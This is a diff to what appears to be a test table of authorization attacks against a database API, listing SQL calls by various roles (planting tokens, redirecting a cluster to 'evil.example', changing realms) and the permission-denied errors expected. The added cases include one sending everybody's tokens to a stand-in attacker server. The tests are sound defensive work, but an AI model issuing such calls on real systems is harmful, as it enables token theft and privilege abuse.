@@ -185,7 +185,8 @@ const Attack onOthers[] = {
      "views builtin"},
 
     {"A15", "a token for a stranger's device, as operator", "olga",
-     "SELECT api.token_put({ugo}, {ugo-laptop}, {lab}, {key ugo}, 'orbit-evil', decode(repeat('ab', 64), 'hex'), now() + interval '1 day')",
+     "SELECT api.token_put({ugo}, {ugo-laptop}, {lab}, {key ugo}, 'orbit-evil', decode(repeat('ab', 64), 'hex'), now() + interval '30 "
+     "days')",
      "42501 permission denied for function token_put", "calls guard rls"},
     {"A15", "whose computers want a token, as helpdesk", "hana", "SELECT * FROM api.tokens_wanted({lab}, 100)",
      "42501 permission denied for function tokens_wanted", "calls guard rls"},
@@ -245,6 +246,10 @@ const Attack acrossTeams[] = {
      "42501 permission denied for function authority_people", "calls guard"},
     {"A03", "whose machines are which in Proxmox, as a user", "uma", "SELECT * FROM api.authority_machines({lab}, NULL, 100)",
      "42501 permission denied for function authority_machines", "calls guard rls"},
+    {"A03", "everybody's tokens to a server of one's own, as installer", "ines",
+     "SELECT api.cluster_put({lab}, 'lab', '{https://evil.example:8006}', repeat('EE:', 31) || 'EE', 'strict')", DENIED, "refuse"},
+    {"A03", "another realm for everybody, as installer", "ines", "SELECT api.cluster_realm_set({lab}, 'evil')",
+     "42501 permission denied for function cluster_realm_set", "calls guard"},
     {"A03", "another realm for everybody, as operator", "olga", "SELECT api.cluster_realm_set({lab}, 'evil')",
      "42501 permission denied for function cluster_realm_set", "calls guard rls"},
     {"A03", "the log of another team", "olga", "SELECT * FROM api.audit_page(NULL, NULL, NULL, NULL, NULL, {beta}, NULL, NULL, NULL, 100)",
